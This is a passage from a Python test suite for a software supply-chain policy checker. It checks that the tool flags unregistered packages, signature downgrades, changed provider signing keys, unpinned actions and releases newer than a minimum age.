) -> None:
    """Not a bot PR, so no PR rule objects to the new import; but the file it imports (not
    touched by the PR) is materialised with the config, so its packages are resolved and
    judged like any other: 0wner/tool is not in the acme registry."""

    def docs(tree: Path) -> None:
        (tree / "docs").mkdir()
        (tree / "docs" / "tools.yaml").write_text(
            "packages:\n  - name: 0wner/tool@v1.0.0\n    registry: acme\n"
        )

    def head(tree: Path) -> None:
        docs(tree)
        _replace(
            tree / "aqua" / "aqua.yaml", "packages:\n", "packages:\n  - import: ../docs/*.yaml\n"
        )

    result = _example(
        tmp_path, head, base_edit=docs, who={"author": "alice", "branch": "feature/tools"}
    )
    _assert_caught(result, {("invalid-manifest", "docs/tools.yaml")})
    assert "0wner/tool is not defined in registry 'acme'" in result.out


def test_a_digest_pinned_docker_action_is_pinned(tmp_path: Path) -> None:
    result = _synthetic(
        tmp_path,
        _edit(
            ".github/workflows/ci.yaml",
            "      - run: make test",
            f"      - uses: docker://alpine@sha256:{_sha('alpine')}\n      - run: make test",
        ),
    )
    assert "action-not-pinned" not in _rules_at(result, ".github/workflows/ci.yaml"), result.out


# --- rules of DESIGN.md §2 (xfail while not registered) ------------------------------------


def _upstream_copy(tmp_path: Path) -> Path:
    dest = tmp_path / "upstream"
    shutil.copytree(EXAMPLE / "upstream", dest)
    return dest


def _not_yet(rule: str, why: str) -> pytest.MarkDecorator:
    """xfail while ``rule`` is not a registered rule; once it is, the test must pass."""
    return pytest.mark.xfail(
        rule not in BY_ID,
        strict=True,
        raises=AssertionError,
        reason=f"not implemented yet: {rule} ({why})",
    )


ACME_REGISTRY = "raw.githubusercontent.com/acme/aqua-registry/{ref}/registry.yaml"


@_not_yet(
    "signature-downgrade",
    "acme/aqua-registry v1.2.0 -> v1.3.0 drops the cosign config of acme/drift-report; the "
    "checksums still match the now unsigned SHA256SUMS, so the PR passes",
)
def test_signature_config_dropped_between_versions(tmp_path: Path) -> None:
    upstream = _upstream_copy(tmp_path)
    old = (upstream / ACME_REGISTRY.format(ref="v1.2.0")).read_text()
    cosign = (
        "      cosign:\n        key:\n          type: github_release\n          asset: cosign.pub\n"
        "        signature:\n          type: github_release\n          asset: SHA256SUMS.sig\n"
    )
    _require(cosign in old, "drift-report's cosign config in the acme registry v1.2.0")
    new = old.replace(cosign, "").replace("@v1.2.0", "@v1.3.0")
    target = upstream / ACME_REGISTRY.format(ref="v1.3.0")
    target.parent.mkdir(parents=True)
    target.write_text(new)

    def head(tree: Path) -> None:
        _replace(tree / "aqua" / "aqua.yaml", "ref: v1.2.0", "ref: v1.3.0")
        digest = hashlib.sha256(new.encode()).hexdigest().upper()
        sums = json.loads((tree / SUMS).read_text())
        for entry in sums["checksums"]:
            if entry["id"].startswith("registries/"):
                entry["id"] = entry["id"].replace("/v1.2.0/", "/v1.3.0/")
                entry["checksum"] = digest
        (tree / SUMS).write_text(json.dumps(sums, indent=2) + "\n")

    result = _example(tmp_path, head, policy=_policy(tmp_path, upstream))
    _require(
        "registry acme (acme/aqua-registry@v1.3.0)"
        in {c["subject"] for c in result.json()["checked"]}
        and _evidence(result, "acme/drift-report v0.7.2 linux/amd64") == {"checksum-file"},
        "drift-report verified through the v1.3.0 registry, by its unsigned checksum file only",
        result.out,
    )
    assert result.code == 1, result.out
    assert "signature-downgrade" in {rule for rule, _ in _findings(result)}, result.out


INVENTORY = "tf.acme.example/{part}/platform/inventory/1.3.0"


@_not_yet(
    "provider-signer-changed",
    "inventory 1.3.0's SHA256SUMS signed by a second pinned key, 1.2.0's by the first: every "
    "signature verifies, so stg's 1.2.0 -> 1.3.0 bump passes",
)
def test_provider_signed_by_another_key_than_the_locked_version(
    tmp_path: Path, gpg_home: GpgHome, gpg_ed25519_key: GpgKey
) -> None:
    upstream = _upstream_copy(tmp_path)
    dl = upstream / INVENTORY.format(part="dl")
    sums = dl / "terraform-provider-inventory_1.3.0_SHA256SUMS"
    (dl / "terraform-provider-inventory_1.3.0_SHA256SUMS.sig").write_bytes(
        gpg_home.sign(gpg_ed25519_key, sums.read_bytes())
    )
    armor = gpg_home.export(gpg_ed25519_key).decode()
    downloads = sorted((upstream / INVENTORY.format(part="v1/providers")).glob("download/*/*"))
    _require(len(downloads) == 4, "four download answers of inventory 1.3.0")
    for answer in downloads:
        doc = json.loads(answer.read_text())
        doc["signing_keys"]["gpg_public_keys"] = [
            {"key_id": gpg_ed25519_key.key_id, "ascii_armor": armor, "trust_signature": ""}
        ]
        answer.write_text(json.dumps(doc, indent=2))
    policy = _policy(
        tmp_path,
        upstream,
        (
            '        providers: ["tf.acme.example/platform/*"]\n',
            f'      - fingerprint: "{gpg_ed25519_key.fingerprint}"\n'
            '        providers: ["tf.acme.example/platform/*"]\n',
        ),
    )
    result = _example(tmp_path, _bump_stg, base_edit=_older_stg, policy=policy)
    _require(
        f"openpgp:{gpg_ed25519_key.key_id}:community"
        in _evidence(result, "tf.acme.example/platform/inventory 1.3.0"),
        "inventory 1.3.0 verified by the second key",
        result.out,
    )
    assert result.code == 1, result.out
    assert ("provider-signer-changed", STG_LOCK) in _findings(result), result.out


def test_release_younger_than_the_minimum_age(tmp_path: Path) -> None:
    """acme/infra-cli v1.3.0 -> v1.4.0 (published 2026-10-01 per its GitHub release in the
    snapshot) under a trust.min_release_age of ten years: too new whatever the clock says."""
    policy = _policy(tmp_path, EXAMPLE / "upstream", ("trust:\n", "  min_release_age: 520w\n"))
    result = _example(tmp_path, lambda t: None, base_edit=_older_infra_cli, policy=policy)
    _assert_caught(result, {("release-too-new", "aqua/aqua.yaml")})
